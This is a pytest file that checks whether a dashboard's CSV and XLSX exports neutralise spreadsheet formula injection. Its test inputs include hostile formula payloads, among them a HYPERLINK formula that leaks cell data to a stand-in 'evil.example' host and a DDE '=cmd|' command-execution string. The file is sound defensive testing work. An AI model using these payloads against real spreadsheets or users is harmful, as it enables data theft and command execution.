"""Every dashboard table downloads as CSV and XLSX, with spreadsheet formula injection
neutralised (OWASP "CSV Injection"): text cells starting with = + - @ tab or CR get a leading
apostrophe; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from xml.etree import ElementTree

import pytest

from engagelens.web.exports import FORMULA_START, Col, Table, neutralise, to_csv, to_xlsx
from test_web_support import XSS_POST, Browser, build_data, make_app

PAGES = [
    "/w/acme/",
    "/w/acme/content",
    f"/w/acme/post?p=instagram&id={XSS_POST}",
    "/w/acme/listening",
    "/w/acme/inbox",
]
NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


@pytest.mark.parametrize(
    "text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", '=HYPERLINK("http://evil","x")']
)
def test_dangerous_text_gets_an_apostrophe(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize(
    "value,expected",
    [
        ("plain", "plain"),
        ("a=b", "a=b"),
        ("1 = 1", "1 = 1"),
        (" a=b", " a=b"),
        (-5, -5),
        (2.5, 2.5),
        (None, ""),
        (float("nan"), ""),
        (True, "true"),
        ("", ""),
    ],
)
def test_safe_values_are_left_alone(value, expected):
    assert neutralise(value) == expected


@pytest.mark.parametrize(
    "text",
    [
        " =1+1",
        "\n=1+1",
        "\r\n+1",
        "\u3000=1",
        "\u200b=1",
        "\uff1d1+1",
        "\uff0b1",
        "\uff20A1",
        " \uff0d1",
    ],
)
def test_formulas_behind_blanks_or_in_full_width_get_an_apostrophe(text):
    # spreadsheets skip leading blanks/line breaks and fold full-width ＝ to = (issue 17.8)
    assert neutralise(text) == "'" + text


def read_xlsx(data: bytes) -> tuple[list[list[str]], str]:
    """Rows of the first sheet as text (shared or inline strings resolved), and the sheet XML."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        names = z.namelist()
        shared: list[str] = []
        if "xl/sharedStrings.xml" in names:
            root = ElementTree.fromstring(z.read("xl/sharedStrings.xml"))
            shared = [
                "".join(t.text or "" for t in si.iter(f"{{{NS['m']}}}t"))
                for si in root.findall("m:si", NS)
            ]
        sheet_xml = z.read("xl/worksheets/sheet1.xml").decode()
    rows = []
    for row in ElementTree.fromstring(sheet_xml).iter(f"{{{NS['m']}}}row"):
        cells = []
        for c in row.findall("m:c", NS):
            v = c.find("m:v", NS)
            if c.get("t") == "s":
                cells.append(shared[int(v.text)])
            elif c.get("t") == "inlineStr":
                cells.append("".join(t.text or "" for t in c.iter(f"{{{NS['m']}}}t")))
            else:
                cells.append(v.text if v is not None else "")
        rows.append(cells)
    return rows, sheet_xml


def test_library_writers_neutralise_and_keep_numbers():
    table = Table(
        "t",
        "T",
        [Col("text", "=Header"), Col("n", "N", "int")],
        rows=[{"text": "=1+2", "n": -3}, {"text": "ok", "n": 4}],
    )
    rows = list(csv.reader(io.StringIO(to_csv(table).decode("utf-8-sig"))))
    assert rows == [["'=Header", "N"], ["'=1+2", "-3"], ["ok", "4"]]
    xrows, xml = read_xlsx(to_xlsx(table))
    assert xrows == [["'=Header", "N"], ["'=1+2", "-3"], ["ok", "4"]]
    assert "<f>" not in xml and "<f " not in xml


@pytest.fixture(scope="module")
def alice(tmp_path_factory):
    from engagelens.api.testing import live_server

    data_dir = tmp_path_factory.mktemp("web-exports")
    build_data(data_dir)
    with live_server(make_app(data_dir)) as url:
        b = Browser(url)
        b.login()
        yield b
        b.close()


def _exports(html: str) -> list[str]:
    return [h.replace("&amp;", "&") for h in re.findall(r'href="([^"]+)" data-export="', html)]


def _assert_safe(cells: list[str], where: str) -> None:
    bad = [
        c
        for c in cells
        if isinstance(c, str)
        and c.startswith(FORMULA_START)
        and not re.fullmatch(r"-?[0-9.]+(e-?[0-9]+)?", c)
    ]
    assert not bad, (where, bad)


def test_every_table_of_every_page_exports_safely(alice):
    seen: dict[str, list[str]] = {}
    for page in PAGES:
        html = alice.get(page).text
        links = _exports(html)
        tables = set(re.findall(r'data-table="([^"]+)"', html))
        assert tables and len(links) == 2 * len(tables), page  # CSV and XLSX per table
        for link in links:
            r = alice.get(link)
            assert r.status_code == 200, link
            disposition = r.headers["content-disposition"]
            assert disposition.startswith('attachment; filename="acme-')
            assert disposition.isascii()
            if "export=csv" in link:
                rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
            else:
                rows, xml = read_xlsx(r.content)
                assert "<f>" not in xml and "<f " not in xml, link  # no formula cells
            assert rows and rows[0], link
            cells = [c for row in rows for c in row]
            _assert_safe(cells, link)
            seen[link] = cells
    everything = [c for cells in seen.values() for c in cells]
    # the hostile comments and the campaign name arrive neutralised, in both formats
    for neutralised in [
        '\'=HYPERLINK("http://evil.example/?"&A1, "win")',
        "'+SUM(1,2)",
        "'-2+3",
        "'@cmd",
        "'=cmd|' /C calc'!A0",
    ]:
        hits = [link for link, cells in seen.items() if neutralised in cells]
        assert any("export=csv" in h for h in hits), neutralised
        assert any("export=xlsx" in h for h in hits), neutralised
    assert any(c.startswith("'\t") for c in everything)


def test_exports_follow_the_filters_and_hold_every_row(alice):
    r = alice.get("/w/acme/content?scope=all&platform=x&export=csv&table=posts")
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert rows and {row["Platform"] for row in rows} == {"x"}
    everything = list(
        csv.DictReader(
            io.StringIO(
                alice.get("/w/acme/content?scope=all&export=csv&table=posts").content.decode(
                    "utf-8-sig"
                )
            )
        )
    )
    assert len(everything) == 13 > len(rows)  # 12 seeded posts + the ingested one


def test_unknown_export_is_404(alice):
    assert alice.get("/w/acme/?export=csv&table=nope").status_code == 404
    assert alice.get("/w/acme/?export=pdf&table=daily").status_code == 404
    assert alice.get("/w/beta/?export=csv&table=daily").status_code == 404
